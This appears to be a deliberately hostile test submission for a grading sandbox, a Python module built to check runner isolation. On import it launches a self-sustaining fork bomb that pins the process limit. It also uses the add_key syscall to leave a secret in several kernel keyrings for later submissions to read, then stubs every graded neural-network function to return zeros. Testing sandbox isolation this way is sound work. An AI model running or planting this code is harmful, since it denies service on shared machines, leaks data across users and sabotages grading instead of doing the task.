"""Hostile: a fork bomb that holds its processes, and a kernel key left for the next submission.

At import every process forks until the kernel refuses, and every child keeps trying, so the runner
sits at its pids limit for its whole life; it also tries to store a key in each kernel keyring a later
submission could read (the user keyring of a uid shared by all runners used to be one). Then it
returns zeros. Graded beside the reference and honest neighbours, it must score zero and cost them
nothing: its processes count against its own uid and cgroup (local) or container (docker) only.
"""
import ctypes
import os
import platform
import time

import numpy as np

ADD_KEY = {"x86_64": 248, "aarch64": 217}.get(platform.machine())


def _leave_a_key() -> None:
    if ADD_KEY is None:
        return
    libc = ctypes.CDLL(None, use_errno=True)
    for keyring in (-4, -5, -3):  # user, user session, session
        result = libc.syscall(ADD_KEY, b"user", b"left-for-the-next", b"secret", 6, keyring)
        print("add_key", keyring, "stored" if result >= 0 else os.strerror(ctypes.get_errno()))


def _bomb() -> None:
    while True:
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
                time.sleep(0.2)


_leave_a_key()
_bomb()


def _zeros(*args, **kwargs):
    return np.zeros(1)


affine_forward = affine_backward = relu_forward = relu_backward = _zeros
softmax_loss = two_layer_loss = train_xor = _zeros
